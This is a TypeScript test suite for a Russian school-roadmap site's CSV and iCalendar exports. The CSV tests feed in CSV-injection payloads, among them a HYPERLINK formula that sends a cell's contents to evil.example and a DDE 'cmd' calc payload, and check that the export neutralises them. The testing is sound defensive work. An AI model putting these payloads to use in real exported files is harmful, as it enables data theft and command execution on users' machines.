/**
 * Roadmap exports a curator opens on their own computer: the CSV cannot carry a formula into
 * Excel (OWASP «CSV Injection»: a cell beginning with =, +, -, @, tab or carriage return gets a
 * leading apostrophe), and is otherwise the file Russian Excel opens by double-click.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { foldLine, roadmapCalendar, roadmapCsv } from '../src/lib/exports.ts';
import type { RoadmapItem } from '../src/schemas/roadmaps.ts';
import { formatDate, isoDate } from '../src/lib/format.ts';

/** The columns a spreadsheet made from an earlier export expects, in their order (the contract). */
const FIRST_COLUMNS = ['Раздел', '№', 'Мероприятие', 'Описание', 'Срок', 'Начало', 'Окончание', 'Ответственные', 'Результат', 'Документы', 'Статус'];

/** RFC 4180 with `;` between cells and CRLF between records: the rows as a spreadsheet reads them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ';') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];
const payload = (c: string) => `${c}HYPERLINK("http://evil.example/?d="&A1;"Нажмите")`;
const item = (over: Partial<RoadmapItem>): RoadmapItem => ({ title: 'Мероприятие', deadline: { text: '', kind: 'unspecified' }, responsible: [], ...over });

describe('roadmap CSV', () => {
  const roadmap = {
    title: 'Дорожная карта',
    period: { from: new Date('2026-09-01'), to: new Date('2027-06-30') },
    stages: [
      {
        title: "=cmd|' /C calc'!A0",
        items: [
          ...DANGEROUS.map((c, i) =>
            item({
              number: `${c}${i + 1}`,
              title: payload(c),
              description: `${c}1+1`,
              deadline: { text: `${c}сентябрь`, kind: 'month', from: new Date('2026-09-01'), to: new Date('2026-09-30') } as RoadmapItem['deadline'],
              responsible: [`${c}Директор`, 'Завуч'],
              result: `${c}SUM(A1:A9)`,
              documents: [`${c}Приказ`, 'Положение'],
            }),
          ),
          item({
            number: '3.1.1',
            title: 'Встреча наставников; «итоги» и "планы"',
            description: 'Обычный текст — с тире, -минусом в середине и =знаком',
            deadline: { text: 'до 30.04.2027', kind: 'until', to: new Date('2027-04-30') } as RoadmapItem['deadline'],
            responsible: ['Зам. директора по УВР'],
            result: '25 %',
            documents: ['Приказ № 12'],
          }),
        ],
      },
    ],
  };
  const csv = roadmapCsv(roadmap);
  const rows = parseCsv(csv.slice(1));

  it('keeps the format Excel in a Russian locale opens: BOM, semicolons, CRLF, a header row', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '').includes('\n')).toBe(false);
    expect(rows[0].slice(0, 11)).toEqual(FIRST_COLUMNS);
    expect(rows.length).toBe(1 + DANGEROUS.length + 1);
    for (const row of rows) expect(row.length).toBe(rows[0].length);
  });

  it('no cell begins with =, +, -, @, tab or carriage return: each such cell gets a leading apostrophe', () => {
    for (const [r, row] of rows.entries()) {
      for (const [c, cell] of row.entries()) expect(DANGEROUS.includes(cell[0]), `строка ${r + 1}, столбец ${c + 1}: ${JSON.stringify(cell)}`).toBe(false);
    }
    DANGEROUS.forEach((c, i) => {
      const row = rows[1 + i];
      expect(row[0]).toBe(`'=cmd|' /C calc'!A0`);
      expect(row[1]).toBe(`'${c}${i + 1}`);
      expect(row[2]).toBe(`'${payload(c)}`);
      expect(row[3]).toBe(`'${c}1+1`);
      expect(row[4]).toBe(`'${c}сентябрь`);
      expect(row[7]).toBe(`'${c}Директор, Завуч`);
      expect(row[8]).toBe(`'${c}SUM(A1:A9)`);
      expect(row[9]).toBe(`'${c}Приказ, Положение`);
    });
  });

  it('leaves ordinary text, dates and numbers as they are', () => {
    const row = rows.at(-1)!;
    expect(row.slice(1, 10)).toEqual([
      '3.1.1',
      'Встреча наставников; «итоги» и "планы"',
      'Обычный текст — с тире, -минусом в середине и =знаком',
      'до 30.04.2027',
      '',
      '2027-04-30',
      'Зам. директора по УВР',
      '25 %',
      'Приказ № 12',
    ]);
    expect(rows[1][5]).toBe('2026-09-01');
    expect(rows[1][6]).toBe('2026-09-30');
    expect(rows[1][10]).toMatch(/^[а-яё]/);
  });
});

describe('roadmap CSV: the date of the statuses and what they mean', () => {
  const today = new Date('2027-02-15T00:00:00Z');
  const explanation = 'Отметок о выполнении нет: статусы показаны по срокам.';
  const roadmap = {
    title: 'Дорожная карта',
    period: { from: new Date('2026-09-01'), to: new Date('2027-06-30') },
    stages: [
      {
        title: 'Подготовка',
        items: [
          item({
            number: '1.1',
            title: 'Приказ',
            status: 'done',
            deadline: { text: 'сентябрь 2026', kind: 'month', from: new Date('2026-09-01'), to: new Date('2026-09-30') } as RoadmapItem['deadline'],
          }),
          item({
            number: '1.2',
            title: 'Анкетирование',
            deadline: { text: 'октябрь 2026', kind: 'month', from: new Date('2026-10-01'), to: new Date('2026-10-31') } as RoadmapItem['deadline'],
          }),
        ],
      },
      { title: 'Отмечен весь раздел', status: 'in-progress' as const, items: [item({ number: '2.1', title: 'Встречи пар' })] },
    ],
  };
  const rows = parseCsv(roadmapCsv(roadmap, { today, explanation }).slice(1));
  const column = (name: string) => rows[0].indexOf(name);

  it('stays one table, the date the statuses are computed for a column of every row (Excel sorts and filters it)', () => {
    expect(rows[0].slice(0, 11)).toEqual(FIRST_COLUMNS);
    expect(column('Статус на дату')).toBeGreaterThan(column('Статус'));
    for (const row of rows) expect(row.length).toBe(rows[0].length);
    for (const row of rows.slice(1)) expect(row[column('Статус на дату')]).toBe('2027-02-15');
  });

  it('explains a status read from the dates, and only that: a marked item (or a marked stage) needs no explanation', () => {
    const byTitle = (title: string) => rows.find((r) => r[2] === title)!;
    expect(byTitle('Анкетирование')[column('Пояснение к статусу')]).toBe(explanation);
    expect(byTitle('Приказ')[column('Пояснение к статусу')]).toBe('');
    expect(byTitle('Встречи пар')[column('Пояснение к статусу')]).toBe('');
  });
});

/**
 * A strict reader of what RFC 5545 asks of the file: CRLF lines of at most 75 octets, folds that
 * split no character, balanced components, the calendar's and every event's required properties.
 */
function parseIcs(text: string) {
  expect(text.endsWith('\r\n'), 'последняя строка без CRLF').toBe(true);
  expect(text.replace(/\r\n/g, '').includes('\n'), 'перевод строки без CR').toBe(false);
  const physical = text.slice(0, -2).split('\r\n');
  for (const line of physical) {
    expect(Buffer.byteLength(line, 'utf8'), `строка длиннее 75 октетов: ${line}`).toBeLessThanOrEqual(75);
    // A fold inside a character leaves a lone surrogate, which UTF-8 cannot carry.
    expect(Buffer.from(line, 'utf8').toString('utf8'), `разрезан символ: ${line}`).toBe(line);
  }
  const lines: string[] = [];
  for (const line of physical) {
    if (/^[ \t]/.test(line)) lines[lines.length - 1] += line.slice(1);
    else lines.push(line);
  }
  const unescape = (v: string) => v.replace(/\\([\\;,nN])/g, (_, c: string) => (c.toLowerCase() === 'n' ? '\n' : c));
  interface Component {
    name: string;
    props: { name: string; params: string; value: string }[];
    children: Component[];
  }
  const stack: Component[] = [{ name: 'ROOT', props: [], children: [] }];
  for (const line of lines) {
    const match = /^([A-Z0-9-]+)((?:;[A-Z0-9-]+=[^:;]*)*):(.*)$/.exec(line);
    expect(match, `не строка свойства: ${line}`).not.toBeNull();
    const [, name, params, value] = match!;
    if (name === 'BEGIN') {
      const child = { name: value, props: [], children: [] };
      stack.at(-1)!.children.push(child);
      stack.push(child);
    } else if (name === 'END') expect(stack.pop()!.name).toBe(value);
    else stack.at(-1)!.props.push({ name, params, value: unescape(value) });
  }
  expect(stack.length).toBe(1);
  const [calendar] = stack[0].children;
  expect(calendar.name).toBe('VCALENDAR');
  const prop = (c: Component, name: string) => c.props.find((p) => p.name === name);
  for (const required of ['VERSION', 'PRODID']) expect(prop(calendar, required), required).toBeDefined();
  const events = calendar.children.map((event) => {
    expect(event.name).toBe('VEVENT');
    for (const required of ['UID', 'DTSTAMP', 'DTSTART']) expect(prop(event, required), required).toBeDefined();
    const day = (p?: { value: string }) => p && new Date(`${p.value.slice(0, 4)}-${p.value.slice(4, 6)}-${p.value.slice(6, 8)}T00:00:00Z`);
    const start = day(prop(event, 'DTSTART'))!;
    const end = day(prop(event, 'DTEND')) ?? new Date(start.getTime() + 86_400_000);
    expect(end.getTime()).toBeGreaterThan(start.getTime());
    return {
      uid: prop(event, 'UID')!.value,
      summary: prop(event, 'SUMMARY')?.value ?? '',
      description: prop(event, 'DESCRIPTION')?.value ?? '',
      url: prop(event, 'URL')?.value,
      start,
      end,
    };
  });
  expect(new Set(events.map((e) => e.uid)).size, 'UID повторяется').toBe(events.length);
  return { calendar: (name: string) => prop(calendar, name)?.value, events };
}

describe('roadmap calendar (ICS)', () => {
  const today = new Date('2023-03-10T00:00:00Z');
  const explanation = 'В документе нет отметок о выполнении: статусы показаны по срокам.';
  const longTitle =
    'Проведение анкетирования среди обучающихся и педагогов, желающих принять участие в программе наставничества; сбор согласий на обработку персональных данных 📋';
  const dated = (text: string, from?: string, to?: string) =>
    ({
      text,
      kind: from && to ? 'range' : from ? 'range' : to ? 'until' : 'schedule',
      from: from && new Date(from),
      to: to && new Date(to),
    }) as RoadmapItem['deadline'];
  const build = (extra: RoadmapItem[] = []) => ({
    title:
      'План мероприятий («Дорожная карта») внедрения целевой модели наставничества в Муниципальном казенном общеобразовательном учреждении «Каялинская СОШ-сад им. Б. Рамазанова» на 2023–2024 учебный год',
    period: { from: new Date('2023-01-01'), to: new Date('2024-12-31') },
    stages: [
      {
        title: 'Формирование базы наставляемых',
        items: [
          ...extra,
          item({ number: '2.1', title: longTitle, deadline: dated('Январь 2023', '2023-01-01', '2023-01-31'), responsible: ['Зам. директора по УВР'] }),
          item({ number: '2.2', title: 'Сбор дополнительной информации о запросах наставляемых', deadline: dated('Январь 2023-', '2023-01-01') }),
          item({ number: '2.3', title: 'Встречи по графику', deadline: dated('по графику') }),
          item({ number: '2.4', title: 'Отчёт', status: 'done', deadline: dated('до 30.01.2023', undefined, '2023-01-30') }),
        ],
      },
      { title: 'Работа', items: [item({ title: 'В течение года', deadline: dated('в течение года') })] },
    ],
  });
  const context = { pageUrl: 'https://example.org/dorozhnye-karty/kayalinskaya/', organization: 'Каялинская СОШ', today, explanation };
  const ics = roadmapCalendar('kayalinskaya', build(), context);
  const parsed = parseIcs(ics);
  const event = (number: string) => parsed.events.find((e) => e.summary.startsWith(`${number} `))!;

  it('folds every line at 75 octets without splitting a character (Cyrillic takes two octets, an emoji four)', () => {
    expect(event('2.1').summary).toBe(`2.1 ${longTitle}`);
    expect(
      ics.split('\r\n').some((line) => line.startsWith(' ')),
      'нет ни одной свёрнутой строки',
    ).toBe(true);
  });

  it('names itself: a PRODID in FPI form, a short calendar name, a description saying what was left out and where the plan is', () => {
    expect(parsed.calendar('PRODID')).toMatch(/^-\/\/[^/]+\/\/[^/]+\/\/[A-Z]{2}$/);
    expect(parsed.calendar('X-WR-CALNAME')).toBe('Дорожная карта — Каялинская СОШ');
    const description = parsed.calendar('X-WR-CALDESC')!;
    expect(description).toContain('2 мероприятия без дат');
    expect(description).toContain(context.pageUrl);
    expect(description).toContain(formatDate(today));
    expect(description).toContain(explanation);
  });

  it('leaves undated items out (and counts them) rather than invent a day', () => {
    expect(parsed.events.map((e) => e.summary.split(' ')[0])).toEqual(['2.1', '2.2', '2.4']);
  });

  it('runs «Январь 2023–» to the end of the roadmap’s period, not a one-day event on 1 January', () => {
    const open = event('2.2');
    expect(open.start.toISOString().slice(0, 10)).toBe('2023-01-01');
    expect(open.end.toISOString().slice(0, 10)).toBe('2025-01-01');
    // A closed month stays a month; a deadline («до 30.01») stays its day.
    expect(event('2.1').end.toISOString().slice(0, 10)).toBe('2023-02-01');
    expect((event('2.4').end.getTime() - event('2.4').start.getTime()) / 86_400_000).toBe(1);
  });

  it('keeps each event’s UID when an event is inserted before it', () => {
    const inserted = parseIcs(
      roadmapCalendar('kayalinskaya', build([item({ number: '2.0', title: 'Новое', deadline: dated('декабрь 2022', '2022-12-01', '2022-12-31') })]), context),
    );
    for (const before of parsed.events) {
      const after = inserted.events.find((e) => e.summary === before.summary)!;
      expect(after.uid, before.summary).toBe(before.uid);
    }
    expect(inserted.events.length).toBe(parsed.events.length + 1);
  });

  it('gives each event its status on the date, the explanation where nobody marked it, and a link to its row', () => {
    expect(event('2.1').description).toContain(`Статус на ${formatDate(today)}:`);
    expect(event('2.1').description).toContain(explanation);
    expect(event('2.4').description).toContain('выполнено');
    expect(event('2.4').description).not.toContain(explanation);
    expect(event('2.1').url).toBe(`${context.pageUrl}#p-2-1`);
  });

  it('is the same file from the same content on the same date (no build time inside)', () => {
    expect(roadmapCalendar('kayalinskaya', build(), context)).toBe(ics);
  });
});

describe('foldLine', () => {
  it('folds at 75 octets, continuation lines at 74 plus the space, never inside a character', () => {
    for (const text of ['а'.repeat(200), `X${'я'.repeat(100)}`, '😀'.repeat(60), 'a'.repeat(75), 'a'.repeat(76)]) {
      const folded = foldLine(text);
      const lines = folded.split('\r\n');
      for (const line of lines) {
        expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
        expect(Buffer.from(line).toString()).toBe(line);
      }
      expect(lines.map((l, i) => (i ? l.slice(1) : l)).join('')).toBe(text);
    }
    expect(foldLine('a'.repeat(75))).toBe('a'.repeat(75));
  });
});

describe('the seed roadmaps’ calendars', () => {
  /** A roadmap file as the site reads it: its dates as dates. */
  const load = (file: string) => {
    const roadmap = parse(readFileSync(file, 'utf8'), {
      reviver: (key, value) => (['from', 'to'].includes(String(key)) && (typeof value === 'string' || value instanceof Date) ? new Date(value) : value),
    }) as Parameters<typeof roadmapCalendar>[1];
    // The schema's defaults.
    for (const item of roadmap.stages.flatMap((s) => s.items.flatMap((i) => [i, ...(i.items ?? [])]))) {
      item.responsible ??= [];
      item.deadline.text ??= '';
    }
    return roadmap;
  };
  const dir = 'src/content/roadmaps';
  const files = readdirSync(dir).filter((f) => f.endsWith('.yaml'));

  it('are valid iCalendar with every item either an event or counted as left out', () => {
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) {
      const roadmap = load(join(dir, file));
      const id = file.replace(/\.yaml$/, '');
      const pageUrl = `https://example.org/dorozhnye-karty/${id}/`;
      const { calendar, events } = parseIcs(roadmapCalendar(id, roadmap, { pageUrl, organization: 'Школа', today: new Date('2026-11-23T00:00:00Z') }));
      const items = roadmap.stages.reduce((n, s) => n + s.items.reduce((m, i) => m + 1 + (i.items?.length ?? 0), 0), 0);
      const left = Number(/(\d+) мероприяти\S* без дат/.exec(calendar('X-WR-CALDESC')!)?.[1] ?? 0);
      expect(events.length + left, file).toBe(items);
      for (const event of events) expect(event.url, file).toMatch(new RegExp(`^${pageUrl}#[pm]-`));
    }
  });

  it('Каялинская «Январь 2023-» runs to the end of the plan, not one day', () => {
    const roadmap = load(join(dir, 'kayalinskaya-sosh-2023-2024.yaml'));
    const { events } = parseIcs(roadmapCalendar('k', roadmap, { pageUrl: 'https://example.org/k/', organization: 'Школа' }));
    const open = events.find((e) => e.summary.startsWith('2.2 '))!;
    expect(open.start.toISOString().slice(0, 10)).toBe(isoDate(roadmap.period.from));
    expect(open.end.getTime()).toBe(roadmap.period.to.getTime() + 86_400_000);
  });
});
